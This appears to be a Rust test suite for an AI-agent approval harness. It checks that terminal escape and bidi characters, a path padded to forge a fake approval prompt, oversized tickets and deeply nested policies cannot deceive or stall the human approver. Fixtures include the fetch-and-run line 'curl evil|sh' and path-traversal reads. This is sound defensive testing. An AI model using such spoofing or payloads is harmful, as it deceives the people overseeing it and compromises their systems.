//! What a person is asked, and what is shown of it.

use std::{
    fs,
    io::{Read, Write},
    process::{Command, Stdio},
};

use serde_json::{Value, json};

use crate::place::{Place, Running, wait_until};

/// What a terminal obeys, turns round or hides.
const EVIL: &str = "A\u{1b}[2J\u{1b}]0;pwn\u{7}\u{9b}2J\u{202e}B\u{2066}C\u{200b}D\rE\u{8}F\u{ad}G\u{2028}H\u{3164}I\u{e0041}J\u{115f}K\u{fe0f}L\u{180e}M\u{7f}N\u{ffa0}\u{34f}\u{e000}";

fn writes(path: &str, content: &str) -> [Value; 2] {
    let arguments = json!({"path": path, "content": content});
    [json!({"tool_calls": [{"name": "fs.write", "arguments": arguments}]}), json!({"text": "done"})]
}

/// What waits for a person.
fn open(place: &Place) -> Vec<Value> {
    place.tickets()
}

/// A run that waits for somebody to answer elsewhere, as the `count`th.
fn waiting(place: &Place, lines: &[Value], count: usize) -> Running {
    let script = place.script(lines);
    let run = place.start(&["run", "--wait", "--json", "--model", &script, "write it down"]);
    wait_until("somebody is asked", || place.home.join("node.sock").exists() && open(place).len() == count);
    run
}

/// Nothing in `shown` is obeyed or hidden by a terminal, but for line ends and what dims a line.
#[track_caller]
fn assert_legible(what: &str, shown: &str) {
    let shown = shown.replace("\u{1b}[2m", "").replace("\u{1b}[0m", "");
    let evil = |c: &char| EVIL.contains(*c) && !c.is_ascii_graphic();
    let found: Vec<char> = shown.chars().filter(evil).collect();
    assert!(found.is_empty(), "{what}: {found:?} in {shown:?}");
}

/// A path that first fills a screen, then asks another question, and comes back to a file that was not meant.
fn spoof() -> String {
    let row = |text: &str| format!("{text:<80}");
    let fake = [
        row("The agent wants to run fs.write on"),
        row("  {\u{2ba}content\u{2ba}:\u{2ba}Shopping list\u{2ba},\u{2ba}path\u{2ba}:\u{2ba}notes.md\u{2ba}}"),
        row("It was deferred: write needs approval."),
    ];
    format!("Makefile/{}{}/..", " ".repeat(80 * 26), fake.concat())
}

#[test]
fn a_path_that_fills_the_screen_with_another_question_is_shown_as_the_file_it_names() {
    let place = Place::new();
    place.file("Makefile", "all:\n");
    if Command::new("script").arg("--version").stdout(Stdio::null()).status().is_ok_and(|status| status.success()) {
        let (binary, model) = (env!("CARGO_BIN_EXE_ephor"), place.script(&writes(&spoof(), "all:\n\tcurl evil|sh\n")));
        let line = format!("stty cols 80 rows 24; '{binary}' run --model '{model}' 'write my list to notes.md'");
        let mut command = place.shell("script");
        command.args(["-q", "-e", "-c", &line, "/dev/null"]).env("SHELL", "/bin/sh").env("NO_COLOR", "1");
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
        let (mut stdout, mut stdin) = (child.stdout.take().unwrap(), child.stdin.take().unwrap());
        let mut shown = Vec::new();
        let mut piece = [0; 4096];
        let mut answered = false;
        while let Ok(count @ 1..) = stdout.read(&mut piece) {
            shown.extend_from_slice(&piece[..count]);
            if !answered && String::from_utf8_lossy(&shown).contains("Permit it? [y/n]") {
                stdin.write_all(b"n\n").unwrap();
                answered = true;
            }
        }
        child.wait().unwrap();
        let shown = String::from_utf8_lossy(&shown).into_owned();
        let (asked, _) = shown.split_once("Permit it? [y/n]").unwrap();
        let asked: Vec<&str> = asked.lines().collect();
        let begins = asked.iter().rposition(|line| line.starts_with("Ticket ")).unwrap();
        let question = &asked[begins..];
        assert!(question.len() <= 23 && question.iter().all(|line| line.chars().count() <= 80), "{shown}");
        let text = question.join("\n");
        let decides = text.split_once("What decides:").unwrap().1;
        assert!(
            decides.contains("path: \"Makefile\"") && decides.contains("The agent wants to run fs.write."),
            "{shown}"
        );
        assert!(!text.contains("notes.md") && !text.contains("Shopping"), "{shown}");
    } else {
        eprintln!("!! not tested at a terminal: there is no `script` here to make one");
    }
    place.node_is_gone();
    let _up = place.up();
    let run = waiting(&place, &writes(&spoof(), "all:\n\tcurl evil|sh\n"), 1);
    let told = place.run(&["approvals"]).succeeded().stdout;
    assert!(told.contains("path: \"Makefile\"") && !told.contains("Shopping"), "{told}");
    assert!(told.lines().all(|line| line.len() <= 200), "{told}");
    place.run(&["refuse", &open(&place)[0]["ticket"].to_string()]).succeeded();
    run.ended();
    assert_eq!(fs::read_to_string(place.workspace.join("Makefile")).unwrap(), "all:\n");
}

#[test]
fn what_others_wrote_reaches_no_terminal_as_it_is() {
    let place = Place::new();
    place.file("a.txt", format!("TODO {EVIL}\n"));
    let lines = [
        json!({"text": EVIL, "tool_calls": [
            {"name": "fs.search", "arguments": {"pattern": "TODO"}},
            {"name": EVIL, "arguments": {"a": EVIL}},
            {"name": "fs.read", "arguments": {"path": EVIL}},
            {"name": "fs.read", "arguments": EVIL},
            {"name": "fs.list", "arguments": {EVIL: EVIL, "path": "."}},
        ]}),
        writes(EVIL, EVIL)[0].clone(),
        json!({"text": EVIL}),
    ];
    let up = place.up();
    let script = place.script(&lines);
    for json in [&["--json"][..], &[]] {
        let ran = place.run(&[&["run", "--model", &script], json, &[&*EVIL.replace('\0', "")]].concat());
        assert_legible("run", &(ran.stdout + &ran.stderr));
    }
    let run = waiting(&place, &writes(EVIL, EVIL), 1);
    let session = open(&place)[0]["session"].as_str().unwrap().to_owned();
    for args in [
        &["approvals"][..],
        &["approvals", "--json"],
        &["tickets"],
        &["sessions"],
        &["ps"],
        &["chain", "log"],
        &["chain", "log", "--content"],
        &["chain", "log", "--content", "--json"],
        &["policy", "explain", "--all"],
        &["inspect", &session],
        &["state"],
        &["dead"],
    ] {
        let ran = place.run(args);
        assert_legible(&args.join(" "), &(ran.stdout + &ran.stderr));
    }
    place.run(&["refuse", &open(&place)[0]["ticket"].to_string(), "--note", EVIL]).succeeded();
    run.ended();
    for entry in place.run(&["chain", "log", "--content", "--json"]).stdout.lines() {
        serde_json::from_str::<Value>(entry).unwrap();
    }
    drop(up);
}

#[test]
fn an_error_spells_out_what_was_typed_or_lies_in_a_folder() {
    let place = Place::new();
    place.play(&[], &[json!({"text": "well"})]).succeeded();
    place.node_is_gone();
    let evil = EVIL.replace('/', "");
    for args in [
        &["run", "-C", &evil, "x"][..],
        &["run", "--model", &evil, "x"],
        &["run", "--model", &format!("script:/{evil}"), "x"],
        &["run", "--agent", &evil, "x"],
        &["run", "--scope", &evil, "x"],
        &["run", "--allow", &evil, "x"],
        &["approve", &evil],
        &["inspect", &evil],
        &["kill", &evil],
        &["reinstate", &evil],
        &[&evil],
        &["chain", "verify", &evil],
        &["policy", "check", &evil],
    ] {
        let ran = place.run(args);
        assert!(!ran.status.success(), "{ran}");
        assert_legible(&args.join(" "), &(ran.stdout + &ran.stderr));
    }
    let strange = place.home.join("chain/tile").join(&evil);
    fs::create_dir_all(strange.parent().unwrap()).unwrap();
    fs::write(strange, "x").unwrap();
    let ran = place.run(&["chain", "verify"]);
    assert_legible("chain verify", &(ran.stdout + &ran.stderr));
}

#[test]
fn tickets_of_nine_megabytes_keep_no_other_from_being_answered() {
    let place = Place::new();
    let up = place.up();
    let large = "x".repeat(9 << 20);
    let first = waiting(&place, &writes("one.txt", &large), 1);
    let second = waiting(&place, &writes("two.txt", &large), 2);
    let third = waiting(&place, &writes("three.txt", "small"), 3);
    let open = open(&place);
    let told = place.run(&["approvals"]).succeeded().stdout;
    let whole = told.replace("\n  | ", "");
    assert!(told.len() < 16_000 && whole.contains("9437184 bytes, sha256 "), "{}", &told[..told.len().min(4000)]);
    let ticket = |at: usize| open[at]["ticket"].to_string();
    let said = place.run(&["approve", &ticket(2)]).succeeded().stdout;
    assert!(said.contains("path: \"three.txt\""), "what is approved is shown: {said}");
    place.run(&["refuse", &ticket(0)]).succeeded();
    place.run(&["approve", &ticket(1)]).succeeded();
    // A turn that goes on with nine megabytes may end at its budget; what was answered is done all the same.
    for run in [first, second, third] {
        run.ended();
    }
    assert_eq!(fs::read_to_string(place.workspace.join("three.txt")).unwrap(), "small");
    assert!(!place.workspace.join("one.txt").exists());
    assert_eq!(fs::metadata(place.workspace.join("two.txt")).unwrap().len(), 9 << 20);
    drop(up);
}

#[test]
fn a_policy_that_is_nested_a_thousand_times_is_refused_and_ends_nothing() {
    let place = Place::new();
    let up = place.up();
    for times in [1_000, 50_000] {
        for (open, close) in [("(", ")"), ("[", "]"), ("!", ""), ("if true then ", " else false"), ("true && ", "")] {
            let condition = format!("{}true{}", open.repeat(times), close.repeat(times));
            let text = format!("@id(\"a\") permit (principal, action, resource) when {{ {condition} }};\n");
            let file = place.root().join("deep.cedar");
            fs::write(&file, text).unwrap();
            let file = file.to_str().unwrap();
            place.run(&["policy", "check", file]).failed(&["too much for one constitution"]);
            place.run(&["policy", "apply", file, "--yes"]).failed(&["too much for one constitution"]);
        }
    }
    place.run(&["ps"]).succeeded();
    drop(up);
}

#[test]
fn a_constitution_has_one_digest_wherever_it_is_named() {
    let place = Place::new();
    place.play(&[], &[json!({"text": "well"})]).succeeded();
    place.node_is_gone();
    let file = place.root().join("law.cedar");
    let path = file.to_str().unwrap();
    let text = place.run(&["policy", "show"]).succeeded().stdout;
    fs::write(&file, &text).unwrap();
    let checked = |place: &Place| {
        let said = place.run(&["policy", "check", path]).succeeded().stdout;
        said.trim_end().trim_end_matches('.').rsplit(' ').next().unwrap().to_owned()
    };
    let recorded = place.facts("policy").last().unwrap()["terms"]["constitution"].clone();
    assert_eq!(checked(&place), recorded);
    // To the byte, whatever the bytes are.
    let changed = format!("{text}\r\n// {}\n\n", EVIL.replace(['\u{2028}', '\r'], ""));
    fs::write(&file, &changed).unwrap();
    let digest = checked(&place);
    let applied = place.run(&["policy", "apply", path, "--yes", "--json"]).succeeded().stdout;
    let applied: Value = serde_json::from_str(&applied).unwrap();
    assert_eq!(applied["constitution"], json!(digest));
    assert!(applied["backtest"]["verdicts"].is_u64(), "{applied}");
    assert_eq!(place.facts("enacted").last().unwrap()["terms"]["constitution"], json!(digest));
    assert_eq!(place.run(&["policy", "show"]).succeeded().stdout, changed);
    let log = place.run(&["chain", "log", "--kind", "enacted"]).succeeded().stdout;
    assert!(log.contains(&digest), "{log}");
}

#[test]
fn what_a_backtest_leaves_out_it_says() {
    let place = Place::new();
    let read = || json!({"tool_calls": [{"name": "fs.list", "arguments": {"path": "."}}]});
    let mut lines: Vec<Value> = (0..2).map(|_| read()).collect();
    lines.push(json!({"text": "well"}));
    for _ in 0..3 {
        place.play(&[], &lines).succeeded();
    }
    place.node_is_gone();
    let file = place.root().join("none.cedar");
    fs::write(&file, "@id(\"none\") forbid (principal, action, resource);\n").unwrap();
    let path = file.to_str().unwrap();
    let told = place.run(&["policy", "backtest", "--policy", path]).succeeded().stdout;
    let out = place.run(&["policy", "backtest", "--policy", path, "--json"]).succeeded().stdout;
    let table: Value = serde_json::from_str(&out).unwrap();
    let changed = table["table"].as_array().unwrap().iter().find(|row| row["recorded"] != row["new"]).unwrap();
    let (count, shown) = (changed["count"].as_u64().unwrap(), changed["examples"].as_array().unwrap().len() as u64);
    assert!(count > shown, "{table}");
    assert_eq!(changed["left_out"].as_u64(), Some(count - shown), "{table}");
    assert!(told.contains(&format!("and {} more", count - shown)), "{told}");
}

#[test]
fn files_that_are_not_there_suspend_nobody_and_refusals_do_with_words_and_a_status() {
    let place = Place::new();
    let up = place.up();
    let reads = |path: &dyn Fn(u32) -> String| {
        let calls: Vec<Value> = (0..40).map(|n| json!({"name": "fs.read", "arguments": {"path": path(n)}})).collect();
        [json!({"tool_calls": calls}), json!({"text": "well"})]
    };
    let missing = place.play(&[], &reads(&|number| format!("missing-{number}.txt"))).succeeded();
    assert!(missing.seen("refused").is_empty(), "{missing}");
    assert!(!place.run(&["approvals"]).succeeded().stdout.contains("suspended"));
    let script = place.script(&reads(&|number| format!("../outside-{number}.txt")));
    let outside = place.run(&["run", "--model", &script, "read them"]);
    outside.failed(&["suspended", "ephor reinstate "]);
    drop(up);
}

#[test]
fn an_answer_that_is_used_again_says_for_how_long_and_for_whom() {
    let place = Place::new();
    let up = place.up();
    let run = waiting(&place, &writes("one.txt", "x"), 1);
    let told = place.run(&["approvals"]).succeeded().stdout;
    assert!(told.contains("8 h, for this session alone") && !told.contains("for good"), "{told}");
    let said = place.run(&["approve", &open(&place)[0]["ticket"].to_string(), "--always"]).succeeded().stdout;
    assert!(said.contains("for this session alone until ") && said.contains(" UTC"), "{said}");
    run.ended().succeeded();
    let run = waiting(&place, &writes("two.txt", "x"), 1);
    let ticket = open(&place)[0]["ticket"].to_string();
    let said = place.run(&["refuse", &ticket, "--always", "--all-agents", "--for", "1h"]).succeeded().stdout;
    assert!(said.contains("for every agent of this node until "), "{said}");
    run.ended().succeeded();
    drop(up);
}

#[test]
fn a_refusal_says_what_to_do_where_nobody_could_be_asked() {
    let place = Place::new();
    let script = place.script(&writes("one.txt", "x"));
    let ran = place.run(&["run", "--model", &script, "go on"]);
    for words in ["no approver is here", "`--wait`", "`--allow fs.write`"] {
        assert!(ran.stderr.contains(words), "{words}: {ran}");
    }
}
